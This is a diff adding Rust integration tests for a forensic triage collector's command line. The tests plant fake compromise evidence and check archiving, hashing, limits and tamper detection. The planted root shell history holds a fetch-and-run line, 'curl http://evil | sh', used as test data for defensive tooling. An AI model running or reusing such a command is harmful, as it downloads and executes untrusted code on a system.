@@ -1,0 +1,302 @@
+//! The command line as responders use it: default profile, specs and profiles from
+//! files (UAC's format), spec errors, limits, timeout, stdout output, and verify.
+
+mod common;
+use common::*;
+use std::io::Write;
+use std::os::unix::fs::PermissionsExt;
+use std::process::{Command, Stdio};
+
+fn planted() -> tempfile::TempDir {
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    std::fs::set_permissions(r, std::fs::Permissions::from_mode(0o755)).unwrap();
+    for d in [
+        "etc",
+        "root",
+        "home/app/.ssh",
+        "var/log/nginx",
+        "tmp",
+        "usr/bin",
+    ] {
+        std::fs::create_dir_all(r.join(d)).unwrap();
+    }
+    std::fs::write(r.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n").unwrap();
+    std::fs::write(r.join("etc/shadow"), "root:*:1::::::\n").unwrap();
+    std::fs::write(r.join("root/.bash_history"), "curl http://evil | sh\n").unwrap();
+    std::fs::write(r.join("home/app/.ash_history"), "id\n").unwrap();
+    std::fs::write(
+        r.join("home/app/.ssh/authorized_keys"),
+        "ssh-ed25519 AAAA attacker\n",
+    )
+    .unwrap();
+    std::fs::write(r.join("home/app/.ssh/id_ed25519"), "PRIVATE").unwrap();
+    std::fs::write(r.join("var/log/app.log"), "GET /shell.php\n").unwrap();
+    std::fs::write(r.join("var/log/nginx/access.log"), "1.2.3.4 GET /\n").unwrap();
+    std::fs::write(r.join("tmp/dropper.sh"), "#!/bin/sh\n").unwrap();
+    std::fs::write(r.join("tmp/big.bin"), vec![7u8; 11 << 20]).unwrap();
+    std::fs::write(r.join("usr/bin/tool"), "bin").unwrap();
+    t
+}
+
+#[test]
+fn default_profile_collects_the_planted_evidence() {
+    let t = planted();
+    let out = t.path().join("../cli-default.tar.zst");
+    collect(t.path(), &out, &[]);
+    verify_ok(&out);
+    let a = Archive::read(&out);
+    assert_eq!(
+        a.text("files/root/.bash_history"),
+        "curl http://evil | sh\n"
+    );
+    assert_eq!(a.text("files/home/app/.ash_history"), "id\n");
+    assert_eq!(a.text("files/var/log/app.log"), "GET /shell.php\n");
+    assert_eq!(a.text("files/var/log/nginx/access.log"), "1.2.3.4 GET /\n");
+    assert_eq!(a.text("files/tmp/dropper.sh"), "#!/bin/sh\n");
+    assert_eq!(a.text("files/etc/shadow"), "root:*:1::::::\n");
+    assert!(a.get("files/home/app/.ssh/authorized_keys").is_some());
+    assert!(
+        a.get("files/home/app/.ssh/id_ed25519").is_none(),
+        "private keys are not taken"
+    );
+    // Files over the /tmp cap are hashed, not copied.
+    assert!(a.get("files/tmp/big.bin").is_none());
+    let hashes = a.text("outputs/files/tmp/tmp/large_tmp_files.sha256");
+    assert!(hashes.contains("/tmp/big.bin"), "{hashes}");
+    let want = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(vec![7u8; 11 << 20]));
+    assert!(hashes.starts_with(&want));
+    // The manifest's hashes are those of the stored bytes.
+    let rec = a.record("/root/.bash_history");
+    assert_eq!(
+        rec["sha256"],
+        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
+            b"curl http://evil | sh\n"
+        ))
+    );
+    assert_eq!(rec["artifact"], "files/shell/history");
+    assert_eq!(rec["status"], "complete");
+    for k in [
+        "mode", "uid", "gid", "mtime", "atime", "ctime", "inode", "size",
+    ] {
+        assert!(!rec[k].is_null(), "manifest lacks {k}");
+    }
+    let s = a.summary();
+    assert_eq!(s["profile"], "container-triage");
+    assert_eq!(s["live"], false);
+    assert!(s["counts"]["files"].as_u64().unwrap() >= 8);
+    // FILE.sha256 is in sha256sum -c format.
+    let side = std::fs::read_to_string(format!("{}.sha256", out.display())).unwrap();
+    assert!(side.ends_with("  cli-default.tar.zst\n"));
+    let st = Command::new("sha256sum")
+        .arg("-c")
+        .arg(format!("{}.sha256", out.display()))
+        .current_dir(out.parent().unwrap())
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let _ = std::fs::remove_file(&out);
+}
+
+#[test]
+fn uac_artifact_and_profile_files_work_and_commands_are_not_run() {
+    let t = planted();
+    let dir = tempfile::tempdir().unwrap();
+    let arts = dir.path().join("artifacts/live_response");
+    std::fs::create_dir_all(&arts).unwrap();
+    std::fs::write(arts.join("mixed.yaml"), "version: 2.0\nartifacts:\n  -\n    description: ps\n    supported_os: [linux]\n    collector: command\n    command: ps auxwww\n    output_file: ps.txt\n  -\n    description: executables\n    supported_os: [all]\n    collector: find\n    path: /usr/bin\n    file_type: [f]\n    output_file: exec.txt\n  -\n    description: hash them\n    supported_os: [all]\n    collector: hash\n    path: exec.txt\n    is_file_list: true\n    output_file: hash_exec\n  -\n    description: bodyfile\n    supported_os: [all]\n    collector: stat\n    path: /etc\n    output_file: bodyfile.txt\n  -\n    description: mac only\n    supported_os: [macos]\n    collector: file\n    path: /etc\n").unwrap();
+    let profiles = dir.path().join("profiles");
+    std::fs::create_dir_all(&profiles).unwrap();
+    let profile = profiles.join("mine.yaml");
+    std::fs::write(&profile, "name: mine\ndescription: test\nartifacts:\n  - live_response/mixed.yaml\n  - files/logs/*\n  - chkrootkit/chkrootkit.yaml\n").unwrap();
+    let out = t.path().join("../cli-uac.tar.zst");
+    collect(t.path(), &out, &["--profile", profile.to_str().unwrap()]);
+    verify_ok(&out);
+    let a = Archive::read(&out);
+    let set = "live_response/mixed";
+    assert_eq!(
+        a.text(&format!("outputs/{set}/exec.txt")),
+        "/usr/bin/tool\n"
+    );
+    let h = a.text(&format!("outputs/{set}/hash_exec.sha256"));
+    assert_eq!(
+        h,
+        format!(
+            "{}  /usr/bin/tool\n",
+            hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"bin"))
+        )
+    );
+    let body = a.text(&format!("outputs/{set}/bodyfile.txt"));
+    let line = body.lines().find(|l| l.contains("|/etc/passwd|")).unwrap();
+    assert_eq!(line.split('|').count(), 11);
+    assert!(line.split('|').nth(3).unwrap().starts_with("-rw"));
+    assert!(a.get("files/var/log/app.log").is_some());
+    assert!(
+        a.get("files/etc/passwd").is_none(),
+        "macos-only entry must not run"
+    );
+    let log = a.log();
+    assert!(log
+        .iter()
+        .any(|l| l["event"] == "not_run" && l["message"].as_str().unwrap().contains("ps auxwww")));
+    assert!(log
+        .iter()
+        .any(|l| l["event"] == "profile" && l["message"].as_str().unwrap().contains("chkrootkit")));
+    let _ = std::fs::remove_file(&out);
+}
+
+#[test]
+fn bad_specs_name_file_line_and_field() {
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("bad.yaml");
+    std::fs::write(&f, "artifacts:\n  - description: ok\n    collector: file\n    path: /etc\n  - description: typo\n    collector: file\n    paht: /var/log\n").unwrap();
+    let o = run(&[
+        "collect",
+        "--artifacts",
+        f.to_str().unwrap(),
+        "--output",
+        dir.path().join("x").to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(
+        err.contains(&format!("{}:7: field `paht`", f.display())),
+        "{err}"
+    );
+    assert!(
+        !dir.path().join("x").exists(),
+        "no archive for a rejected spec"
+    );
+    std::fs::write(
+        &f,
+        "artifacts:\n  - collector: file\n    path: /etc\n    max_depth: [1\n",
+    )
+    .unwrap();
+    let o = run(&[
+        "collect",
+        "--artifacts",
+        f.to_str().unwrap(),
+        "--output",
+        "-",
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("bad.yaml:"),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let o = run(&["collect", "--artifacts", "no/such/thing", "--output", "-"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("neither a built-in artifact"));
+    let o = run(&["collect", "--profile", "nope", "--output", "-"]);
+    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown profile `nope`"));
+}
+
+#[test]
+fn exclusions_limits_and_timeout() {
+    let t = planted();
+    let out = t.path().join("../cli-ex.tar.zst");
+    collect(
+        t.path(),
+        &out,
+        &[
+            "--artifacts",
+            "!files/tmp/*,!files/ssh/ssh",
+            "--max-total-size",
+            "20",
+        ],
+    );
+    verify_ok(&out);
+    let a = Archive::read(&out);
+    assert!(a.get("files/tmp/dropper.sh").is_none());
+    assert!(a.get("files/home/app/.ssh/authorized_keys").is_none());
+    let s = a.summary();
+    assert!(s["counts"]["bytes_stored"].as_u64().unwrap() <= 20);
+    assert!(a
+        .manifest()
+        .iter()
+        .any(|r| r["reason"] == "--max-total-size reached"));
+    // A zero timeout still yields a complete, valid archive that says it was cut.
+    let out2 = t.path().join("../cli-to.tar.zst");
+    collect(t.path(), &out2, &["--timeout", "0s"]);
+    verify_ok(&out2);
+    let a = Archive::read(&out2);
+    assert_eq!(a.summary()["timed_out"], true);
+    assert!(a.log().iter().any(|l| l["event"] == "timeout"));
+    let _ = std::fs::remove_file(&out);
+    let _ = std::fs::remove_file(&out2);
+}
+
+#[test]
+fn stdout_output_json_progress_and_tamper_detection() {
+    let t = planted();
+    let o = Command::new(BIN)
+        .args([
+            "collect",
+            "--root",
+            t.path().to_str().unwrap(),
+            "--output",
+            "-",
+            "--progress",
+            "json",
+        ])
+        .output()
+        .unwrap();
+    assert!(o.status.success());
+    let events: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stderr)
+        .lines()
+        .filter(|l| l.starts_with('{'))
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(events.first().unwrap()["event"], "start");
+    let done = events.iter().find(|e| e["event"] == "done").unwrap();
+    let sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&o.stdout));
+    assert_eq!(
+        done["sha256"], sha,
+        "reported sha256 is that of the bytes on stdout"
+    );
+    // verify reads stdin too.
+    let mut v = Command::new(BIN)
+        .args(["verify", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    v.stdin.take().unwrap().write_all(&o.stdout).unwrap();
+    assert!(v.wait_with_output().unwrap().status.success());
+
+    // Tampering with a file inside the archive is found.
+    let dir = tempfile::tempdir().unwrap();
+    let x = dir.path().join("x");
+    std::fs::create_dir(&x).unwrap();
+    let st = Command::new("sh")
+        .arg("-c")
+        .arg("zstd -dc | tar -xf - -C \"$0\"")
+        .arg(&x)
+        .stdin(Stdio::piped())
+        .spawn()
+        .and_then(|mut c| {
+            c.stdin.take().unwrap().write_all(&o.stdout)?;
+            c.wait()
+        })
+        .unwrap();
+    assert!(st.success());
+    std::fs::write(x.join("files/root/.bash_history"), "innocent\n").unwrap();
+    let bad = dir.path().join("bad.tar.zst");
+    let st = Command::new("sh").arg("-c").arg(format!("cd {} && tar -cf - files outputs collection.log manifest.jsonl summary.json 2>/dev/null | zstd -q -o {}", x.display(), bad.display())).status().unwrap();
+    assert!(st.success());
+    let o = run(&["verify", bad.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1));
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        out.contains("MISMATCH files/root/.bash_history: sha256"),
+        "{out}"
+    );
+    // A corrupted compressed byte is found too.
+    let mut bytes = std::fs::read(&bad).unwrap();
+    let mid = bytes.len() / 2;
+    bytes[mid] ^= 0xff;
+    std::fs::write(&bad, bytes).unwrap();
+    let o = run(&["verify", bad.to_str().unwrap()]);
+    assert_ne!(o.status.code(), Some(0));
+}
